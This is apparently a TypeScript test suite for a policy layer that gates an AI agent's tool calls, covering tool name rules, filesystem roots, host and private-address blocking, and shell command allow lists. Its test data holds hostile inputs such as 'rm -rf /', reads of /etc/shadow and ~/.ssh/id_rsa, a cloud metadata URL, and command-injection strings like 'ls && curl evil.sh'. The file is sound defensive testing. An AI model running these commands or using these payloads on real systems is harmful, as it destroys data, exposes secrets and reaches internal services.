import { afterAll, assert, beforeAll, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as Schema from "effect/Schema"
import * as fs from "node:fs"
import * as os from "node:os"
import * as path from "node:path"
import { ToolPolicyDenied } from "../../../src/kernel/Errors.js"
import { isPrivateHost } from "../../../src/tools/executors/internal/network.js"
import * as PolicyExecutor from "../../../src/tools/executors/PolicyExecutor.js"
import * as Tool from "../../../src/tools/Tool.js"
import * as Toolkit from "../../../src/tools/Toolkit.js"
import * as ToolExecutor from "../../../src/tools/ToolExecutor.js"
import { call, context } from "../fixtures.js"

/** Tools that accept anything and say what they were given; `ran` counts the calls that got through. */
const ran = { n: 0 }
const open = (name: string) =>
  Tool.fromJsonSchema(name, {
    description: "accepts anything",
    jsonSchema: { type: "object" },
    handler: (args) => Effect.sync(() => (ran.n++, { ok: args }))
  })
const toolkit = Toolkit.make(open("read_file"), open("write_file"), open("shell_exec"), open("fetch"), open("calc"))

const exec = (options: PolicyExecutor.Options, name: string, args: unknown) =>
  PolicyExecutor.make(ToolExecutor.make(), options).execute(call(name, args), toolkit, context)

const denied = (options: PolicyExecutor.Options, name: string, args: unknown) =>
  Effect.map(Effect.flip(exec(options, name, args)), (error) => {
    assert.instanceOf(error, ToolPolicyDenied, error.message)
    assert.isFalse(error.retryable)
    return error as ToolPolicyDenied
  })

const allowed = (options: PolicyExecutor.Options, name: string, args: unknown) =>
  Effect.map(exec(options, name, args), (result) => assert.deepStrictEqual(result, { ok: args }))

describe("PolicyExecutor", () => {
  describe("tool names", () => {
    const options = { allowTools: ["read_*", "calc", "write_file"], denyTools: ["write_*"] }

    it.effect("allows listed tools and refuses the others, deny winning over allow", () =>
      Effect.gen(function*() {
        yield* allowed(options, "read_file", { path: "x" })
        yield* allowed(options, "calc", {})
        const deny = yield* denied(options, "write_file", {})
        assert.strictEqual(deny.rule, "deny_tools")
        assert.strictEqual(deny.message, "policy denied 'write_file': tool 'write_file' matches 'write_*' in deny_tools (rule: deny_tools)")
        const notListed = yield* denied(options, "shell_exec", {})
        assert.strictEqual(notListed.rule, "allow_tools")
      }))

    it.effect("a refused call never reaches the tool; {} allows everything", () =>
      Effect.gen(function*() {
        const before = ran.n
        yield* denied({ denyTools: ["*"] }, "calc", {})
        assert.strictEqual(ran.n, before)
        yield* allowed({}, "shell_exec", { command: "rm -rf /", url: "http://127.0.0.1", path: "/etc/passwd" })
        assert.strictEqual(ran.n, before + 1)
      }))
  })

  describe("filesystem roots (a real temp dir)", () => {
    let tmp = ""
    let root = ""
    let outside = ""
    beforeAll(() => {
      tmp = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "oa-policy-")))
      root = path.join(tmp, "root")
      outside = path.join(tmp, "outside")
      fs.mkdirSync(path.join(root, "sub"), { recursive: true })
      fs.mkdirSync(outside)
      fs.writeFileSync(path.join(root, "sub", "a.txt"), "a")
      fs.writeFileSync(path.join(outside, "secret.txt"), "s")
      fs.symlinkSync(outside, path.join(root, "escape")) // a folder link out of the root
      fs.symlinkSync(path.join(outside, "secret.txt"), path.join(root, "secret-link.txt"))
      fs.symlinkSync(path.join(root, "sub"), path.join(root, "inner-link")) // a link that stays inside
      fs.symlinkSync(path.join(outside, "not-yet.txt"), path.join(root, "dangling.txt"))
    })
    afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }))
    const policy = () => ({ fsRoots: [root], fsBaseDir: root })

    it.effect("allows paths inside the root: relative, absolute, new files, links that stay inside", () =>
      Effect.gen(function*() {
        yield* allowed(policy(), "read_file", { path: "sub/a.txt" })
        yield* allowed(policy(), "read_file", { path: path.join(root, "sub", "a.txt") })
        yield* allowed(policy(), "write_file", { path: "sub/new/deeper.txt" })
        yield* allowed(policy(), "read_file", { path: "inner-link/a.txt" })
        yield* allowed(policy(), "read_file", { dir: root })
        yield* allowed(policy(), "calc", { expression: "../../etc/passwd" }) // not a path argument
      }))

    it.effect("refuses traversal, absolute paths outside, '~' and NUL bytes, naming the rule", () =>
      Effect.gen(function*() {
        const traversal = yield* denied(policy(), "write_file", { path: "../x" })
        assert.strictEqual(traversal.rule, "fs_roots")
        assert.strictEqual(
          traversal.message,
          `policy denied 'write_file': path '../x' is outside the allowed roots [${root}] ('..' segments are refused) (rule: fs_roots)`
        )
        yield* denied(policy(), "read_file", { path: "sub/../../outside/secret.txt" })
        yield* denied(policy(), "read_file", { path: "sub\\..\\..\\x" })
        const absolute = yield* denied(policy(), "read_file", { path: "/etc/passwd" })
        assert.include(absolute.reason, "path '/etc/passwd' is outside the allowed roots")
        yield* denied(policy(), "read_file", { file: `${root}-sibling/x` }) // a prefix of the root is not inside it
        yield* denied(policy(), "read_file", { path: "~/.ssh/id_rsa" })
        yield* denied(policy(), "read_file", { path: "sub/a.txt\0.png" })
        yield* denied(policy(), "read_file", { path: "" })
      }))

    it.effect("refuses symlink escapes: a linked file, a linked folder, a new file under it, a dangling link", () =>
      Effect.gen(function*() {
        const file = yield* denied(policy(), "read_file", { path: "secret-link.txt" })
        assert.include(file.reason, "through a symlink")
        assert.include(file.reason, path.join(outside, "secret.txt"))
        yield* denied(policy(), "read_file", { path: "escape/secret.txt" })
        yield* denied(policy(), "write_file", { path: "escape/new-file.txt" })
        const dangling = yield* denied(policy(), "write_file", { path: "dangling.txt" })
        assert.include(dangling.reason, "dangling symlink")
      }))

    it.effect("checks every path argument at any depth, and arrays of paths", () =>
      Effect.gen(function*() {
        yield* denied(policy(), "read_file", { options: { cwd: "/" } })
        yield* denied(policy(), "read_file", { paths: ["sub/a.txt", "/etc/shadow"] })
        yield* denied(policy(), "read_file", { batch: [{ file: "ok.txt" }, { file: "../../x" }] })
        yield* allowed(policy(), "read_file", { paths: ["sub/a.txt", "sub/b.txt"] })
        // path_args replaces the default keys
        yield* allowed({ ...policy(), pathArgs: ["target"] }, "write_file", { path: "/etc/x", target: "sub/y" })
        yield* denied({ ...policy(), pathArgs: ["target"] }, "write_file", { target: "/etc/x" })
      }))

    it.effect("judges the arguments as the tool's schema transforms them too", () =>
      Effect.gen(function*() {
        const trimmed = Toolkit.make(Tool.make("read_file", {
          description: "reads",
          parameters: Schema.Struct({ path: Schema.Trim }),
          handler: ({ path: p }) => Effect.succeed(p)
        }))
        const executor = PolicyExecutor.make(ToolExecutor.make(), policy())
        // as sent, "  ../x" has no '..' segment; trimmed, it has
        const error = yield* Effect.flip(executor.execute(call("read_file", { path: "  ../secret" }), trimmed, context))
        assert.instanceOf(error, ToolPolicyDenied)
        assert.include(error.message, "path '../secret'")
        assert.strictEqual(yield* executor.execute(call("read_file", { path: " sub/a.txt " }), trimmed, context), "sub/a.txt")
      }))

    it.effect("resolves relative paths against the base dir (by default the working directory)", () =>
      Effect.gen(function*() {
        yield* denied({ fsRoots: [root] }, "read_file", { path: "sub/a.txt" }) // cwd is not the root
        yield* allowed({ fsRoots: [root], fsBaseDir: path.join(root, "sub") }, "read_file", { path: "a.txt" })
      }))
  })

  describe("network", () => {
    const policy = { allowHosts: ["api.example.com", "*.wikipedia.org"] }

    it.effect("allows listed hosts and refuses the others", () =>
      Effect.gen(function*() {
        yield* allowed(policy, "fetch", { url: "https://api.example.com/v1?q=1" })
        yield* allowed(policy, "fetch", { url: "https://en.wikipedia.org/wiki/Effect" })
        const other = yield* denied(policy, "fetch", { url: "https://evil.example.net/" })
        assert.strictEqual(other.rule, "allow_hosts")
        assert.include(other.message, "host 'evil.example.net' is not in the allowed hosts [api.example.com, *.wikipedia.org]")
        yield* denied(policy, "fetch", { url: "https://wikipedia.org.evil.net/" })
        yield* denied(policy, "fetch", { url: "https://api.example.com@evil.net/" }) // userinfo is not the host
        yield* denied(policy, "fetch", { url: "not a url" })
      }))

    const hostile = [
      "http://127.0.0.1/",
      "http://127.1.2.3:8080/admin",
      "http://10.0.0.8/",
      "http://172.16.4.4/",
      "http://192.168.1.1/",
      "http://169.254.169.254/latest/meta-data/",
      "http://100.64.0.1/",
      "http://0.0.0.0/",
      "http://[::1]/",
      "http://[::]/",
      "http://[::ffff:127.0.0.1]/",
      "http://[::ffff:a9fe:a9fe]/",
      "http://[fe80::1]/",
      "http://[fd00::1]/",
      "http://0x7f.1/",
      "http://2130706433/",
      "http://017700000001/",
      "http://localhost:3000/",
      "http://api.localhost/",
      "http://LOCALHOST./"
    ]
    for (const url of hostile) {
      it.effect(`refuses ${url} unless allow_private`, () =>
        Effect.gen(function*() {
          const error = yield* denied({ allowHosts: ["*"] }, "fetch", { url })
          assert.strictEqual(error.rule, "allow_private", error.message)
          assert.include(error.reason, "private, loopback or link-local")
          yield* allowed({ allowHosts: ["*"], allowPrivate: true }, "fetch", { url })
        }))
    }

    it.effect("refuses other schemes, and URLs in arguments of any name", () =>
      Effect.gen(function*() {
        const file = yield* denied({ allowHosts: ["*"] }, "fetch", { url: "file:///etc/passwd" })
        assert.strictEqual(file.rule, "allow_schemes")
        yield* denied({ allowHosts: ["*"] }, "fetch", { url: "gopher://example.com/" })
        yield* allowed({ allowHosts: ["*"], allowSchemes: ["ftp"] }, "fetch", { url: "ftp://example.com/x" })
        const hidden = yield* denied({ allowHosts: ["*"] }, "fetch", { options: { target: "http://10.1.2.3/" } })
        assert.strictEqual(hidden.rule, "allow_private")
        assert.include(hidden.reason, "options.target")
        yield* denied(policy, "fetch", { urls: ["https://api.example.com/", "https://evil.net/"] })
        yield* allowed({ allowHosts: ["*"] }, "fetch", { text: "see http://10.0.0.1/ for details" }) // prose, not a URL
      }))

    it.effect("allow_private alone turns the rule on, for any public host", () =>
      Effect.gen(function*() {
        yield* denied({ allowPrivate: false }, "fetch", { url: "http://127.0.0.1:8080/" })
        yield* allowed({ allowPrivate: false }, "fetch", { url: "https://example.com/" })
        yield* denied({ allowSchemes: ["https"] }, "fetch", { url: "http://example.com/" })
      }))

    it("classifies addresses", () => {
      for (const host of ["8.8.8.8", "example.com", "[2606:4700::1111]", "172.32.0.1", "100.128.0.1"]) {
        assert.isFalse(isPrivateHost(host), host)
      }
      for (const host of ["[::ffff:10.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::a00:1]", "[2002:7f00:1::]", "[::127.0.0.1]", "224.0.0.1"]) {
        assert.isTrue(isPrivateHost(host), host)
      }
    })
  })

  describe("commands", () => {
    const policy = { allowCommands: ["ls", "git"] }

    it.effect("allows listed programs, as a command line or an argv array", () =>
      Effect.gen(function*() {
        yield* allowed(policy, "shell_exec", { command: "ls -la sub" })
        yield* allowed(policy, "shell_exec", { command: "git commit -m \"a message\"" })
        yield* allowed(policy, "shell_exec", { argv: ["git", "status"] })
      }))

    const hostile = [
      "ls; rm -rf /",
      "ls && curl evil.sh",
      "ls || true",
      "ls | sh",
      "ls $(whoami)",
      "ls `whoami`",
      "ls > /etc/passwd",
      "ls < /etc/shadow",
      "ls\nrm -rf /",
      "ls & disown",
      "ls ${HOME}",
      "ls ~",
      "ls *",
      "ls \\; rm"
    ]
    for (const command of hostile) {
      it.effect(`refuses shell metacharacters: ${JSON.stringify(command)}`, () =>
        Effect.gen(function*() {
          const error = yield* denied(policy, "shell_exec", { command })
          assert.strictEqual(error.rule, "allow_commands")
          assert.include(error.reason, "shell metacharacter")
        }))
    }

    it.effect("refuses unlisted programs, paths to programs, env prefixes and bad shapes", () =>
      Effect.gen(function*() {
        const rm = yield* denied(policy, "shell_exec", { command: "rm -rf /tmp/x" })
        assert.include(rm.reason, "'rm' is not in the allowed commands [ls, git]")
        const full = yield* denied(policy, "shell_exec", { command: "/bin/ls" })
        assert.include(full.reason, "not a bare program name")
        yield* denied(policy, "shell_exec", { command: "./ls" })
        yield* denied(policy, "shell_exec", { command: "PATH=/tmp ls" })
        yield* denied(policy, "shell_exec", { argv: ["rm", "-rf"] })
        yield* denied(policy, "shell_exec", { argv: ["ls", "$(id)"] })
        yield* denied(policy, "shell_exec", { command: "   " })
        yield* denied(policy, "shell_exec", { cmd: 42 })
      }))
  })

  describe("evaluate", () => {
    it.effect("a custom rule refuses with its reason and rule, or allows; Effects and Promises both work", () =>
      Effect.gen(function*() {
        const evaluate: PolicyExecutor.Evaluate = (request) =>
          request.toolName === "write_file" && JSON.stringify(request.arguments).includes("prod")
            ? { allowed: false, reason: "no writes to prod", rule: "no_prod" }
            : { allowed: true }
        const error = yield* denied({ evaluate }, "write_file", { path: "prod.cfg" })
        assert.strictEqual(error.message, "policy denied 'write_file': no writes to prod (rule: no_prod)")
        yield* allowed({ evaluate }, "write_file", { path: "dev.cfg" })
        const viaEffect = yield* denied({ evaluate: () => Effect.succeed(false) }, "calc", {})
        assert.strictEqual(viaEffect.rule, "evaluate")
        yield* allowed({ evaluate: () => Promise.resolve(undefined) }, "calc", {})
        const seen: Array<PolicyExecutor.PolicyRequest> = []
        yield* allowed({ evaluate: (r) => void seen.push(r) }, "calc", { a: 1 })
        assert.deepStrictEqual(seen, [{ toolName: "calc", arguments: { a: 1 }, callId: "call-1", runId: "run-1", sessionId: "session-1", agentId: "agent-1" }])
      }))

    it.effect("a broken custom rule fails closed", () =>
      Effect.gen(function*() {
        const thrown = yield* denied({ evaluate: () => { throw new Error("db down") } }, "calc", {})
        assert.strictEqual(thrown.reason, "the custom policy failed: db down")
        yield* denied({ evaluate: () => Promise.reject(new Error("nope")) }, "calc", {})
        yield* denied({ evaluate: () => Effect.fail("nope") }, "calc", {})
        yield* denied({ evaluate: () => "yes" as never }, "calc", {})
      }))

    it.effect("name rules run before the custom rule, which runs last", () =>
      Effect.gen(function*() {
        let asked = 0
        const error = yield* denied({ denyTools: ["calc"], evaluate: () => void asked++ }, "calc", {})
        assert.strictEqual(error.rule, "deny_tools")
        assert.strictEqual(asked, 0)
      }))
  })

  it.effect("the Layer wraps the executor it is given", () =>
    Effect.gen(function*() {
      const executor = yield* Effect.provide(
        ToolExecutor.ToolExecutor,
        PolicyExecutor.layer({ denyTools: ["calc"] }).pipe(Layer.provide(ToolExecutor.layer()))
      )
      assert.instanceOf(yield* Effect.flip(executor.execute(call("calc", {}), toolkit, context)), ToolPolicyDenied)
      assert.deepStrictEqual(yield* executor.execute(call("fetch", { a: 1 }), toolkit, context), { ok: { a: 1 } })
    }))
})
